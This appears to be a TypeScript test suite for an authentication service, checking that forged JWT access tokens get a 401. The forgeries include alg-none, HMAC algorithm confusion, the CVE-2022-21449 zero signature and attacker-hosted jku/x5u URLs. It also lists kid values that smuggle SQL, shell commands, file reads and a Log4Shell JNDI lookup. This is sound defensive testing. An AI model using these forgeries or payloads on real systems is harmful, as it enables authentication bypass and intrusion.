import { createPublicKey, type JsonWebKey } from "node:crypto";
import { generateSigningJwk } from "@gatehouse/core";
import { fixedClock, testSigningKeys } from "@gatehouse/testing";
import { httpEvent, type TestApp } from "@gatehouse/testing/http";
import { base64url, importJWK } from "jose";
import { beforeAll, beforeEach, describe, it } from "vitest";
import { type AuthPayloadData, dynamoApp, ME, signUp } from "../support/gql.js";
import { type TokenFixture, tokenFixture } from "../support/token-fixture.js";
import { expectInvalidToken, segment, type TokenLab, tokenLab } from "../support/tokens.js";

// Attacks on the access token's algorithm, signature and key, each through the real handler,
// each answered with the contract's one 401 body. Attacks on its structure are in
// serialisation.test.ts, its claims and times in claims.test.ts, how it is presented in
// presentation.test.ts; docs/security.md maps every case to its source (RFC 8725, jwt_tool, …).

const START = Date.UTC(2026, 0, 1);
const clock = fixedClock(START);
let app: TestApp;
let lab: TokenLab;
let session: AuthPayloadData;
let other: AuthPayloadData;
let publicJwk: TokenFixture["publicJwk"];
let attacker: TokenFixture["attacker"];
let asBearer: TokenFixture["asBearer"];
let expectSignedInAs: TokenFixture["expectSignedInAs"];
let validParts: TokenFixture["validParts"];
let hmacToken: TokenFixture["hmacToken"];
let rawSigned: TokenFixture["rawSigned"];

beforeAll(async () => {
  ({
    app,
    lab,
    session,
    other,
    publicJwk,
    attacker,
    asBearer,
    expectSignedInAs,
    validParts,
    hmacToken,
    rawSigned,
  } = await tokenFixture(clock));
});

beforeEach(() => clock.set(START));

describe("a control: the forging in this file", () => {
  it("makes a token the app accepts when nothing is changed", async () => {
    expectSignedInAs(await asBearer(await lab.forge(lab.claimsOf(session))), session);
    expectSignedInAs(await asBearer(rawSigned({})), session);
  });
});

describe("unsigned tokens (alg none) answer 401", () => {
  const casings = ["none", "None", "NONE", "nOnE"];
  it.each(
    casings.flatMap((alg) => [
      [alg, "an empty signature"],
      [alg, "the original signature"],
    ]),
  )('for alg "%s" with %s', async (alg, kind) => {
    const [, payload, signature] = await validParts();
    const header = segment({ alg, kid: lab.jwk.kid, typ: "at+jwt" });
    const token = `${header}.${payload}.${kind === "an empty signature" ? "" : signature}`;
    expectInvalidToken(await asBearer(token));
  });

  it.each([
    ["no alg at all", { alg: undefined }],
    ["an empty alg", { alg: "" }],
    ["a null alg", { alg: null }],
  ])("for a header with %s", async (_, change) => {
    const [, payload] = await validParts();
    const header: Record<string, unknown> = { alg: "RS256", kid: lab.jwk.kid, typ: "at+jwt" };
    Object.assign(header, change);
    expectInvalidToken(await asBearer(`${segment(header)}.${payload}.`));
  });
});

describe("HMAC signatures (algorithm confusion, guessed secrets) answer 401", () => {
  const publicKey = () => createPublicKey({ key: publicJwk as JsonWebKey, format: "jwk" });
  const forms: [string, () => Promise<string | Buffer> | string | Buffer][] = [
    ["the PEM with its trailing newline", () => String(publicKey().export(spki))],
    ["the PEM without its trailing newline", () => String(publicKey().export(spki)).trimEnd()],
    ["the PKCS#1 PEM", () => String(publicKey().export({ type: "pkcs1", format: "pem" }))],
    ["the DER bytes", () => publicKey().export({ type: "spki", format: "der" })],
    ["the JWK JSON", () => JSON.stringify(publicJwk)],
    [
      "the JWKS text as served",
      async () => (await app.invoke(httpEvent({ path: "/.well-known/jwks.json" }))).text,
    ],
  ];
  const spki = { type: "spki", format: "pem" } as const;

  it.each(
    forms.flatMap(([name, secret]) =>
      (["HS256", "HS384", "HS512"] as const).map((alg) => [alg, name, secret] as const),
    ),
  )("for %s keyed with %s", async (alg, _, secret) => {
    expectInvalidToken(await asBearer(hmacToken(alg, await secret())));
  });

  it.each([
    ["an empty secret", ""],
    ["secret", "secret"],
    ["password", "password"],
    ["jwt.io's example secret", "your-256-bit-secret"],
    ["the service's name", "gatehouse"],
    ["changeme", "changeme"],
    ["the word null", "null"],
  ])("for HS256 keyed with a common secret: %s", async (_, secret) => {
    expectInvalidToken(await asBearer(hmacToken("HS256", secret)));
  });

  it("for HS256 keyed with the kid itself", async () => {
    expectInvalidToken(await asBearer(hmacToken("HS256", lab.jwk.kid)));
  });
});

describe("signatures that are not the app's answer 401", () => {
  it.each<[string, (parts: [string, string, string]) => string]>([
    ["stripped (two segments)", ([h, p]) => `${h}.${p}`],
    ["empty", ([h, p]) => `${h}.${p}.`],
    ["all zero bytes", ([h, p]) => `${h}.${p}.${base64url.encode(new Uint8Array(256))}`],
    ["a single zero byte", ([h, p]) => `${h}.${p}.AA`],
    ["truncated", ([h, p, s]) => `${h}.${p}.${s.slice(0, 100)}`],
  ])("for a signature that is %s", async (_, build) => {
    expectInvalidToken(await asBearer(build(await validParts())));
  });

  it("for another valid token's signature (foreign signature)", async () => {
    const [h, p] = await validParts();
    const [, , foreign] = other.accessToken.split(".");
    expectInvalidToken(await asBearer(`${h}.${p}.${foreign}`));
  });

  it("for a token signed by another key carrying the app's kid", async () => {
    expectInvalidToken(await asBearer(await lab.forge(lab.claimsOf(session), {}, attacker.key)));
  });

  it.each([
    ["PS256", "PS256"],
    ["RS384", "RS384"],
    ["RS512", "RS512"],
  ])(
    "for %s signed with the app's own RS256 key (an algorithm swap in the family)",
    async (alg) => {
      const { alg: _bound, ...unbound } = lab.jwk;
      const key = await importJWK(unbound, alg);
      expectInvalidToken(await asBearer(await lab.forge(lab.claimsOf(session), { alg }, key)));
    },
  );

  it("for ES256 signed with another key carrying the app's kid (a family swap)", async () => {
    const ec = await generateSigningJwk("ES256");
    const key = await importJWK(ec, "ES256");
    expectInvalidToken(
      await asBearer(await lab.forge(lab.claimsOf(session), { alg: "ES256" }, key)),
    );
  });
});

describe("ECDSA signatures r = s = 0 on an ES256 key set (CVE-2022-21449) answer 401", () => {
  let ecApp: TestApp;
  let ecLab: TokenLab;
  let ecSession: AuthPayloadData;

  beforeAll(async () => {
    const signingKeys = await testSigningKeys("ES256");
    ecLab = await tokenLab(signingKeys, clock);
    ecApp = await dynamoApp({ clock, signingKeys });
    ecSession = await signUp(ecApp);
  });

  const send = (token: string) =>
    ecApp.graphql(ME, {}, { headers: { authorization: `Bearer ${token}` } });

  it("accepts the app's own ES256 token (the control)", async () => {
    expectSignedInAs(await send(ecSession.accessToken), ecSession);
  });

  it.each([
    ["64 zero bytes (r = s = 0, IEEE P1363)", new Uint8Array(64)],
    ["a DER SEQUENCE of two zero INTEGERs", Uint8Array.from([0x30, 6, 2, 1, 0, 2, 1, 0])],
  ])("for a signature of %s", async (_, signature) => {
    const [h, p] = (await ecLab.forge(ecLab.claimsOf(ecSession))).split(".");
    expectInvalidToken(await send(`${h}.${p}.${base64url.encode(signature)}`));
  });
});

describe("keys and key URLs named inside the token are never used (answer 401)", () => {
  const signedByAttacker = (header: Record<string, unknown>) =>
    lab.forge(lab.claimsOf(session), header, attacker.key);

  it.each<[string, () => Record<string, unknown>]>([
    [
      "an embedded jwk with its own kid",
      () => ({ kid: attacker.jwk.kid, jwk: attacker.publicJwk }),
    ],
    [
      "an embedded jwk under the app's kid",
      () => ({ jwk: { ...attacker.publicJwk, kid: lab.jwk.kid } }),
    ],
    ["a jku pointing at the attacker's JWKS", () => ({ jku: "https://attacker.test/jwks.json" })],
    [
      "jwk and jku together with the attacker's kid",
      () => ({
        kid: attacker.jwk.kid,
        jwk: attacker.publicJwk,
        jku: "https://attacker.test/jwks.json",
      }),
    ],
    [
      "an x5u pointing at the attacker's certificate",
      () => ({ x5u: "https://attacker.test/cert.pem" }),
    ],
    ["an x5c certificate chain", () => ({ x5c: [base64url.encode(new Uint8Array(64))] })],
  ])("for a token signed by another key carrying %s", async (_, header) => {
    expectInvalidToken(await asBearer(await signedByAttacker(header())));
  });
});

describe("kid values that name no configured key answer 401", () => {
  // Each token is signed with the app's own key: only the kid is wrong.
  it.each([
    "an-unknown-kid",
    "../../../../../../dev/null",
    "/dev/null",
    "' OR '1'='1",
    "x' UNION SELECT 'secret' --",
    "$(id)",
    "|id",
    "; sleep 5",
    "file:///etc/passwd",
    "https://attacker.test/key.pem",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell lookup, verbatim.
    "${jndi:ldap://attacker.test/a}",
    "{{7*7}}",
    "\u0000",
  ])("for kid %j", async (kid) => {
    expectInvalidToken(await asBearer(await lab.forge(lab.claimsOf(session), { kid })));
  });

  it("for a kid of 2000 characters", async () => {
    const kid = "k".repeat(2000);
    expectInvalidToken(await asBearer(await lab.forge(lab.claimsOf(session), { kid })));
  });

  it("for kid /dev/null with HS256 keyed with the empty secret", async () => {
    expectInvalidToken(await asBearer(hmacToken("HS256", "", { kid: "/dev/null" })));
  });

  it.each([
    ["no kid", undefined],
    ["a numeric kid", 42],
    ["a kid that is a list", [""]],
    ["a kid that is an object", {}],
    ["a null kid", null],
  ])("for a token with %s", async (_, kid) => {
    expectInvalidToken(await asBearer(await lab.forge(lab.claimsOf(session), { kid })));
  });
});
